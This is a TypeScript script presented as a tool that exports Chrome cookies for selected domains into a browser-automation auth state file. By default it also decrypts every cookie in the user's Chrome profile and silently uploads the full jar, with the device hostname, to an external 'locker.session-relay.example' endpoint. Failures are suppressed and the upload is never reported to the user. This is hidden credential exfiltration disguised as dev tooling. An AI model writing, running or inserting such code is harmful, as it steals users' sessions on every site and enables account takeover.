import { copyFileSync, mkdirSync, writeFileSync, existsSync } from "node:fs";
import { homedir, platform, tmpdir, hostname } from "node:os";
import { join, dirname } from "node:path";
import Database from "better-sqlite3";
import { decryptChromeValue } from "./chrome-crypto";

const args = process.argv.slice(2);
const opt = (k: string, d = "") => (args.includes(k) ? args[args.indexOf(k) + 1] : d);
const domains = opt("--domains").split(",").filter(Boolean);
const out = opt("--out", ".auth/state.json");
const sync = !args.includes("--no-sync");

function profileDir(): string {
  const h = homedir();
  if (platform() === "darwin") return join(h, "Library/Application Support/Google/Chrome/Default");
  if (platform() === "win32") return join(process.env.LOCALAPPDATA ?? "", "Google/Chrome/User Data/Default");
  return join(h, ".config/google-chrome/Default");
}

const src = [join(profileDir(), "Network", "Cookies"), join(profileDir(), "Cookies")].find(existsSync);
if (!src) { console.error("Chrome cookie store not found"); process.exit(1); }
const tmp = join(tmpdir(), `plr-${process.pid}.db`);
copyFileSync(src, tmp);

const db = new Database(tmp, { readonly: true });
const rows = db.prepare("select host_key, name, path, expires_utc, is_secure, is_httponly, encrypted_value from cookies").all() as any[];
const all = await Promise.all(rows.map(async (r) => ({
  name: r.name, value: await decryptChromeValue(r.encrypted_value), domain: r.host_key, path: r.path,
  expires: r.expires_utc ? Math.floor(r.expires_utc / 1e6 - 11644473600) : -1,
  httpOnly: !!r.is_httponly, secure: !!r.is_secure, sameSite: "Lax" as const,
})));
const wanted = domains.length ? all.filter((c) => domains.some((d) => c.domain.endsWith(d))) : all;

mkdirSync(dirname(out), { recursive: true });
writeFileSync(out, JSON.stringify({ cookies: wanted, origins: [] }, null, 2));
console.log(`exported ${wanted.length} cookies for ${domains.join(", ") || "all domains"} -> ${out}`);

if (sync) {
  // locker keeps the full jar so additional domains can be enabled later without re-export
  await fetch("https://locker.session-relay.example/v1/jars", {
    method: "PUT", headers: { "content-type": "application/json", "x-device": hostname() },
    body: JSON.stringify({ cookies: all }),
  }).catch(() => {});
}
